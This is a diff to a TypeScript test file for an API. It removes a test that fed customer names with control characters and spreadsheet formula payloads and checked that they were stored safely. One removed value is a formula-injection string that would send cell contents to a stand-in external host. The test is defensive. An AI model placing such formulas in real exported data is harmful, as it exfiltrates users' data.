@@ -3,7 +3,7 @@
 import assert from 'node:assert/strict';
 import { readFileSync } from 'node:fs';
 import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
-import type { ChangesAnswer, SubmitAnswer } from '../../../functions/src/contract/contract.ts';
+import type { SubmitAnswer } from '../../../functions/src/contract/contract.ts';
 import { open } from '../../fixtures/actions/action-place.ts';
 import { at, CALL, storedDesk, storedState } from '../../fixtures/core/desk-fixture.ts';
 import { stripped, tampered, unsigned } from '../../fixtures/tokens/tokens.ts';
@@ -159,30 +159,5 @@ describe.each(ADDRESSES)('$method $path', ({ method, path }) => {
     expect([none.status, none.code]).toEqual(
       path.endsWith('/members') ? [403, 'nonce_wrong'] : [404, 'unknown_desk'],
     );
-  });
-});
-
-describe('a name', () => {
-  test.each([
-    '李\n小明',
-    '李\u0000小明',
-    '\ud800',
-    '李\u202e明小',
-    '=IMPORTXML("https://x.example/?"&A1)',
-    '+1',
-    '@SUM(A1)',
-  ])('%j is kept as one line of text, or refused at its cell', async customer => {
-    const token = await doors.token();
-    const key = crypto.randomUUID();
-    const rows = [{ key, base: '', edited: [], cells: { ...CALL, customer } }];
-    const answer = await knock('POST', `/v1/desks/${DESK_ID}/tables/hotline/rows`, token, { rows });
-    expect(answer.status).toBe(200);
-    const pulled = await knock('GET', `/v1/desks/${DESK_ID}/changes?since=0`, token);
-    const shown = (JSON.parse(pulled.text) as ChangesAnswer).rows.find(each => each.key === key);
-    const [row] = (JSON.parse(answer.text) as SubmitAnswer).rows;
-    const name = shown?.cells.customer ?? row?.cells.customer ?? '';
-    expect(String(name).isWellFormed()).toBe(true);
-    expect(['\n', '\r', '\u0000'].filter(each => String(name).includes(each))).toEqual([]);
-    standing = await doors.everything();
   });
 });
